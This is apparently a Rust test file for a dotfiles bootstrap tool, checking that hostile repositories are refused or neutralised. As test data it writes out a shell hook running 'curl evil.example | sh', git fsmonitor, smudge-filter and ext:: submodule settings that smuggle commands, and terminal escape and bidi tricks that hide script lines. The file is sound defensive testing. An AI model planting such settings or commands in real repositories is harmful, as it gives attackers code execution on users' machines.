//! Further attacks by hostile repositories: special files, huge files, configuration of git, and
//! dotfiles that open an account. Nothing runs before consent, nothing is written outside, and each
//! attempt is one clear error.

use std::fs;
use std::os::unix::fs::symlink;
use std::path::Path;
use std::process::Command;

use crate::support::{Home, Run};

/// Creates a home with a repository in `dots`.
fn home(manifest: &str) -> Home {
    let mut home = Home::new();
    home.set("SHELL", "/bin/bash");
    home.write("dots/boot.toml", &format!("version = 1\n{manifest}"));
    home.write("dots/home/.ownrc", "own\n");
    home
}

fn fifo(path: &Path) {
    assert!(Command::new("mkfifo").arg(path).status().unwrap().success());
}

fn huge(path: &Path) {
    fs::File::create(path).unwrap().set_len(6 << 30).unwrap();
}

/// Checks that output cannot move the cursor or reverse text.
fn is_plain(run: &Run) {
    let odd = |c: char| {
        c.is_control() && !matches!(c, '\n' | '\t')
            || ('\u{202a}'..='\u{202e}').contains(&c)
            || ('\u{2066}'..='\u{2069}').contains(&c)
    };
    assert!(
        !run.stdout.chars().any(odd) && !run.stderr.chars().any(odd),
        "{run}"
    );
}

#[test]
fn init_special_or_huge_file_is_error_before_any_change() {
    // What it is, what the one error says, the manifest, and what else lies there.
    type Attack<'a> = (&'a str, &'a str, &'a str, &'a dyn Fn(&Path));
    let script = "[dotfiles]\n[[run]]\nid = 'a'\ncmd = './s.sh'";
    let attacks: [Attack; 17] = [
        (
            "a pipe",
            "home/.x: it is neither a file nor a folder",
            "[dotfiles]",
            &|repo| fifo(&repo.join("home/.x")),
        ),
        (
            "a pipe that is copied",
            "home/.x: it is neither a file nor a folder",
            "[dotfiles]\n'~/.x' = { mode = 'copy' }",
            &|repo| fifo(&repo.join("home/.x")),
        ),
        (
            "a pipe as a template",
            "home/.x: it is neither a file nor a folder",
            "[dotfiles]\n'~/.x' = { mode = 'template' }",
            &|repo| fifo(&repo.join("home/.x")),
        ),
        (
            "a link to a device",
            "home/.x: it is a link that leads nowhere, or out of the repository",
            "[dotfiles]\n'~/.x' = { mode = 'copy' }",
            &|repo| symlink("/dev/zero", repo.join("home/.x")).unwrap(),
        ),
        (
            "a link around the home directory",
            "home/.x: it is a link that leads nowhere, or out of the repository",
            "[dotfiles]",
            &|repo| symlink("../../.bashrc", repo.join("home/.x")).unwrap(),
        ),
        (
            "a folder that holds itself",
            "home/.x: only files can be copied",
            "[dotfiles]\n'~/.x' = { mode = 'copy' }",
            &|repo| symlink(".", repo.join("home/.x")).unwrap(),
        ),
        (
            "a huge copy",
            "home/.x: it is larger than 64 megabytes",
            "[dotfiles]\n'~/.x' = { mode = 'copy' }",
            &|repo| huge(&repo.join("home/.x")),
        ),
        (
            "a huge template",
            "home/.x: it is larger than 64 megabytes",
            "[dotfiles]\n'~/.x' = { mode = 'template' }",
            &|repo| huge(&repo.join("home/.x")),
        ),
        (
            "a template that is no text",
            "home/.x: it can't be read as a template",
            "[dotfiles]\n'~/.x' = { mode = 'template' }",
            &|repo| fs::write(repo.join("home/.x"), b"\xff\xfe").unwrap(),
        ),
        (
            "a script that is a pipe",
            "./s.sh: it isn't a regular file",
            script,
            &|repo| fifo(&repo.join("s.sh")),
        ),
        (
            "a huge script",
            "./s.sh: it is larger than 1 MB",
            script,
            &|repo| huge(&repo.join("s.sh")),
        ),
        (
            "a watched pipe",
            "w: it isn't a regular file",
            "[dotfiles]\n[[run]]\nid = 'a'\ncmd = 'true'\nwatch = ['w']",
            &|repo| fifo(&repo.join("w")),
        ),
        (
            "a watched file outside",
            "../.bashrc is outside of the repository",
            "[dotfiles]\n[[run]]\nid = 'a'\ncmd = 'true'\nwatch = ['../.bashrc']",
            &|_| (),
        ),
        (
            "a lock that is a pipe",
            "boot.lock: it isn't a file of a lock's size",
            "[dotfiles]",
            &|repo| fifo(&repo.join("boot.lock")),
        ),
        (
            "a huge lock",
            "boot.lock: it isn't a file of a lock's size",
            "[dotfiles]",
            &|repo| huge(&repo.join("boot.lock")),
        ),
        (
            "hooks of the shell's own",
            "hook should be true or false",
            "[shell]\nhook = 'curl evil.example | sh'",
            &|_| (),
        ),
        (
            "a setting",
            "settings isn't a key of boot.toml",
            "[settings]\nindex-url = 'https://evil.example'",
            &|_| (),
        ),
    ];
    for (what, says, manifest, attack) in attacks {
        let home = home(manifest);
        home.write(".bashrc", "# mine\n");
        attack(&home.root.join("dots"));
        let before = home.tree();
        for verb in [
            &["init", "dots", "--yes", "--on-conflict", "backup"][..],
            &["init", "dots", "--dry-run"],
        ] {
            let run = home.boot(verb).one_error();
            assert!(matches!(run.code, Some(1 | 2)), "{what}: {run}");
            assert!(
                run.stderr.contains(says),
                "{what} is refused for something else than {says:?}: {run}"
            );
            is_plain(&run);
        }
        assert_eq!(home.tree(), before, "{what}");
        assert_eq!(home.read(".bashrc"), "# mine\n", "{what}");
    }
}

/// The user's folders may be links out of the home directory, and conflicting files may be special.
#[test]
fn init_backup_neither_follows_links_nor_reads_pipes() {
    let home = home("[dotfiles]\n'~/.copied' = { mode = 'copy' }");
    let outside = tempfile::tempdir().unwrap();
    fs::write(outside.path().join("rc"), "theirs\n").unwrap();
    symlink(outside.path().join("rc"), home.root.join(".ownrc")).unwrap();
    home.write("dots/home/.copied", "copied\n");
    fifo(&home.root.join(".copied"));
    home.write("dots/home/.large", "small\n");
    huge(&home.root.join(".large"));
    home.boot(["init", "dots", "--yes"])
        .code(1)
        .one_error()
        .stderr_has(".ownrc")
        .stderr_has(".copied")
        .stderr_has(".large");
    home.boot(["init", "dots", "--yes", "--on-conflict", "backup"])
        .success();
    assert_eq!(
        fs::read_to_string(outside.path().join("rc")).unwrap(),
        "theirs\n"
    );
    assert_eq!(home.read(".copied"), "copied\n");
    home.boot(["undo"]).success();
    assert_eq!(
        fs::read_link(home.root.join(".ownrc")).unwrap(),
        outside.path().join("rc")
    );
    assert_eq!(
        fs::metadata(home.root.join(".large")).unwrap().len(),
        6 << 30
    );
}

/// Dotfiles that open an account are allowed; the plan shows each on its own line and waits for
/// consent.
#[test]
fn init_shows_sensitive_dotfiles_and_waits_for_consent() {
    let home = home("[dotfiles]\n[[run]]\nid = 'fine'\ncmd = 'scripts/fine.sh'\n");
    let doors = [
        ".ssh/authorized_keys",
        ".profile",
        ".bashrc",
        ".config/systemd/user/x.service",
    ];
    for door in doors {
        home.write(&format!("dots/home/{door}"), "touch ran\n");
    }
    home.write(
        "dots/scripts/fine.sh",
        "#!/bin/sh\nprintf 'fine\\n'\n\
                                        # \u{1b}[2K\u{1b}[1Anothing to see\u{202e}\r\n\
                                        touch \"$HOME/ran\"\n",
    );
    let before = home.tree();
    let run = home
        .boot(["init", "dots", "--dry-run"])
        .success()
        .stdout_has("touch \"$HOME/ran\"");
    is_plain(&run);
    for door in doors {
        assert!(
            run.stdout
                .lines()
                .any(|line| line.contains(&format!("~/{door}"))),
            "{door}: {run}"
        );
    }
    is_plain(&home.boot(["init", "dots"]).code(3).one_error());
    let made: Vec<String> = home
        .tree()
        .into_iter()
        .filter(|path| !before.contains(path) && !path.starts_with(".local"))
        .collect();
    assert!(made.is_empty(), "{made:?}");
}

/// Configuration, filters and hooks that a repository brings are never used by git.
#[test]
fn init_and_update_run_nothing_that_git_would() {
    let git = |folder: &Path, args: &[&str]| {
        let identity = [
            "-c",
            "user.name=Me",
            "-c",
            "user.email=me@example.com",
            "-c",
            "protocol.file.allow=always",
        ];
        let output = Command::new("git")
            .args(identity)
            .args(args)
            .current_dir(folder)
            .output()
            .expect("this story needs git");
        assert!(
            output.status.success(),
            "{args:?}: {}",
            String::from_utf8_lossy(&output.stderr)
        );
    };
    let mut home = home("[dotfiles]\n");
    home.set(
        "BOOT_GIT_HOST",
        &format!("file://{}/git", home.root.display()),
    );
    let ran = home.root.join("ran");
    let touch = format!("touch '{}'", ran.display());
    let repo = home.root.join("git/me/dotfiles");
    home.write("git/me/dotfiles/boot.toml", "version = 1\n[dotfiles]\n");
    home.write("git/me/dotfiles/home/.ownrc", "own\n");
    home.write(
        "git/me/dotfiles/home/.big",
        "version https://git-lfs.github.com/spec/v1\noid sha256:0\nsize 1\n",
    );
    home.write(
        "git/me/dotfiles/.gitattributes",
        "* filter=evil diff=evil merge=evil\nhome/.big filter=lfs\n",
    );
    home.write(
        "git/me/dotfiles/.gitconfig",
        &format!("[core]\n\tfsmonitor = {touch}\n[filter \"evil\"]\n\tsmudge = {touch}\n"),
    );
    home.write(
        "git/me/dotfiles/.lfsconfig",
        "[lfs]\n\turl = http://127.0.0.1:9\n",
    );
    home.write(
        "git/me/dotfiles/.gitmodules",
        &format!(
            "[submodule \"x\"]\n\tpath = x\n\turl = ext::sh -c {touch}\n\tupdate = !{touch}\n"
        ),
    );
    for hook in ["post-checkout", "post-merge", "reference-transaction"] {
        home.program(
            &format!("git/me/dotfiles/.githooks/{hook}"),
            &format!("#!/bin/sh\n{touch}\n"),
        );
    }
    git(&repo, &["init", "--quiet"]);
    git(&repo, &["add", "--all"]);
    // The entry of a submodule, as if there were one.
    git(
        &repo,
        &[
            "update-index",
            "--add",
            "--cacheinfo",
            "160000,1111111111111111111111111111111111111111,x",
        ],
    );
    git(&repo, &["commit", "--quiet", "--message=x"]);
    // And what lies in its .git, for whom it is a folder.
    for (name, value) in [
        ("core.fsmonitor", &touch),
        ("filter.evil.smudge", &touch),
        ("filter.evil.clean", &touch),
        ("diff.external", &touch),
    ] {
        git(&repo, &["config", name, value]);
    }
    git(&repo, &["config", "core.hooksPath", ".githooks"]);

    home.boot(["init", "me", "--yes"]).success();
    assert_eq!(home.read(".ownrc"), "own\n");
    home.write("git/me/dotfiles/home/.later", "later\n");
    fs::rename(repo.join(".git/config"), repo.join(".git/hostile")).unwrap();
    git(&repo, &["add", "home/.later"]);
    git(&repo, &["commit", "--quiet", "--message=y"]);
    fs::rename(repo.join(".git/hostile"), repo.join(".git/config")).unwrap();
    assert!(!ran.exists(), "a clone ran what the repository brought");
    home.boot(["update", "--yes"]).success();
    assert_eq!(home.read(".later"), "later\n");
    assert!(!ran.exists(), "an update ran what the repository brought");

    // The same as a folder, which boot doesn't ask git about.
    let mut other = Home::new();
    other.set("SHELL", "/bin/bash");
    for args in [
        &["init", "--dry-run"][..],
        &["init", "--yes"],
        &["plan"],
        &["status"],
        &["apply"],
    ] {
        let mut args: Vec<&str> = args.to_vec();
        if args[0] == "init" {
            args.push(repo.to_str().unwrap());
        }
        other.boot(args).success();
    }
    other.boot(["update", "--yes"]).success();
    assert!(!ran.exists(), "a folder's .git/config ran something");
}
